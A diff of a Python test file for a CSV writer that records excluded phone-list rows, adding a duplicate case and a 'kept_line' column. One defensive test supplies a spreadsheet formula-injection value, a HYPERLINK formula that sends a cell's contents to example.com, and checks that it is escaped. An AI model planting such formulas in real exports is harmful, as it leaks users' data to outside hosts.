@@ -51,12 +51,13 @@ def test_the_document_has_counts_and_lines_but_no_text_of_a_row() -> None:
 
 def test_every_row_that_is_left_out_is_written_with_its_sentence(tmp_path: Path) -> None:
     path = tmp_path / "excluded.csv"
-    write_excluded(path, planned("6175550123", "n/a", "a, b\nc"))
+    write_excluded(path, planned("6175550123", "n/a", "a, b\nc", "617-555-0123"))
     with path.open(newline="") as file:
         assert list(csv.reader(file)) == [
-            ["line", "reason", "sentence", "text"],
-            ["2", "not_a_number", Refusal.NOT_A_NUMBER.sentence, "n/a"],
-            ["3", "not_a_number", Refusal.NOT_A_NUMBER.sentence, "a, b\nc"],
+            ["line", "reason", "sentence", "text", "kept_line"],
+            ["2", "not_a_number", Refusal.NOT_A_NUMBER.sentence, "n/a", ""],
+            ["3", "not_a_number", Refusal.NOT_A_NUMBER.sentence, "a, b\nc", ""],
+            ["4", "duplicate", Refusal.DUPLICATE.sentence, "617-555-0123", "1"],
         ]
 
 
@@ -64,7 +65,7 @@ def test_no_row_that_is_left_out_is_a_formula_in_a_spreadsheet(tmp_path: Path) -
     path = tmp_path / "excluded.csv"
     write_excluded(path, planned('=HYPERLINK("https://example.com/?"&A1)', "@sum", "n/a =1"))
     with path.open(newline="") as file:
-        texts = [row[-1] for row in csv.reader(file)][1:]
+        texts = [row["text"] for row in csv.DictReader(file)]
     assert texts == ['\'=HYPERLINK("https://example.com/?"&A1)', "'@sum", "n/a =1"]
 
 
